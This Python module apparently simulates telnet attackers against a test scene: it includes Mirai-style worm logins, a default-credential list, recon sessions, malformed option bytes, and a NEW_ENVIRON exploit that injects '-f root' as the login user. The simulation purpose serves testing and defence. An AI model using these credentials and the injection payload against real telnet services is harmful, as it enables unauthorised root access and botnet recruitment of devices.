"""What attackers do over telnet, on bare sockets: worms, guesses, options, exploits."""

from __future__ import annotations

import contextlib
import socket

from sample.scene import Scene
from sample.words import ARCHITECTURES, HOSTILE_TEXT, MIRAI, RECON, TELNET_LOGINS

IAC, DO, WILL, SB, SE = b"\xff", b"\xfd", b"\xfb", b"\xfa", b"\xf0"
NAWS, NEW_ENVIRON, SGA, ECHO = b"\x1f", b"\x27", b"\x03", b"\x01"
LIVE_LOGINS = ("root:xc3511", "root:vizxv", "admin:admin", "root:admin", "ubnt:ubnt", "pi:raspberry")


class Talk:
    """A conversation in lines with a deadline on every answer."""

    def __init__(self, scene: Scene, source: str) -> None:
        self.scene = scene
        self.socket = scene.connect(source, scene.telnet_port)
        self.socket.settimeout(1.5)

    def __enter__(self) -> Talk:
        return self

    def __exit__(self, *exc: object) -> None:
        self.scene.pause(0.1, 3)
        self.socket.close()

    def wait(self, *prompts: bytes) -> bytes:
        """Read up to a prompt; what came when none does within the deadline."""
        seen = b""
        with contextlib.suppress(OSError):
            while not any(prompt in seen for prompt in prompts):
                more = self.socket.recv(4096)
                if not more:
                    break
                seen += more
        return seen

    def say(self, data: bytes) -> None:
        """Send bytes; a connection that is gone already is no matter."""
        with contextlib.suppress(OSError):
            self.socket.sendall(data)

    def log_in(self, login: str) -> bool:
        """Answer the two prompts and tell whether that was right."""
        username, _, password = login.partition(":")
        self.wait(b"login: ")
        self.scene.pause(0.2, 1.5)
        self.say(username.encode() + b"\r\n")
        self.wait(b"Password: ")
        self.scene.pause(0.2, 1.5)
        self.say(password.encode() + b"\r\n")
        return b"incorrect" not in self.wait(b"incorrect", b"# ", b"$ ")


def worm(scene: Scene, source: str) -> None:
    """Do as Mirai and its children do."""
    with Talk(scene, source) as talk:
        login = scene.dice.choice(LIVE_LOGINS)
        for attempt in [scene.ranked(TELNET_LOGINS), login][scene.dice.randrange(2) :]:
            if talk.log_in(attempt):
                break
        else:
            return
        token = scene.dice.choice(("ECCHI", "MIRAI", "SORA", "BOTNET"))
        arch = scene.ranked(ARCHITECTURES)
        for line in MIRAI:
            scene.pause(0.1, 1)
            talk.say(line.format(token=token, web=scene.web, arch=arch).encode() + b"\r\n")
            talk.wait(b"# ", b"$ ")


def guess(scene: Scene, source: str) -> None:
    """Try some logins."""
    with Talk(scene, source) as talk:
        for _ in range(scene.dice.randrange(1, 4)):
            if talk.log_in(scene.ranked(TELNET_LOGINS)):
                talk.say(scene.ranked(RECON).encode() + b"\r\n")
                talk.wait(b"# ", b"$ ")
                break


def glance(scene: Scene, source: str) -> None:
    """Read the prompt and leave."""
    with Talk(scene, source) as talk:
        talk.wait(b"login: ")
        scene.pause(1, 20)


def negotiate(scene: Scene, source: str) -> None:
    """Be a real telnet client: options, window size, environment."""
    with Talk(scene, source) as talk:
        talk.say(IAC + WILL + NAWS + IAC + SB + NAWS + b"\x00\x50\x00\x18" + IAC + SE)
        talk.say(IAC + DO + SGA + IAC + DO + ECHO + IAC + WILL + NEW_ENVIRON)
        talk.say(IAC + SB + NEW_ENVIRON + b"\x00\x00USER\x01guest\x03DISPLAY\x01:0" + IAC + SE)
        if talk.log_in(scene.dice.choice(LIVE_LOGINS)):
            for line in scene.dice.sample(RECON, 3):
                scene.pause(0.5, 4)
                talk.say(line.encode() + b"\r\n")
                talk.wait(b"# ", b"$ ")
            talk.say(b"exit\r\n")


def exploit(scene: Scene, source: str) -> None:
    """Try CVE-2026-24061: a USER that telnetd hands to login as an option."""
    with Talk(scene, source) as talk:
        talk.wait(b"login: ")
        talk.say(IAC + WILL + NEW_ENVIRON + IAC + SB + NEW_ENVIRON + b"\x00\x00USER\x01-f root" + IAC + SE)
        scene.pause(0.2, 1)
        talk.log_in("root:id")


def vandal(scene: Scene, source: str) -> None:
    """Send what breaks readers, or what is no telnet at all."""
    with Talk(scene, source) as talk:
        if scene.dice.random() < 0.4:
            talk.say(b"GET / HTTP/1.0\r\n\r\n")
        elif scene.dice.random() < 0.5:
            talk.say(IAC + SB + b"\x01\x02" + IAC + b"\x01")
        else:
            words = scene.dice.sample(HOSTILE_TEXT, 2)
            talk.wait(b"login: ")
            talk.say(words[0].encode() + b"\r\n")
            talk.wait(b"Password: ")
            talk.say(b"let me in \xff\xff\x1b[5m" + words[1].encode()[:80] + b"\r\n")
        with contextlib.suppress(OSError):
            talk.socket.shutdown(socket.SHUT_WR)
        talk.wait(b"# ")
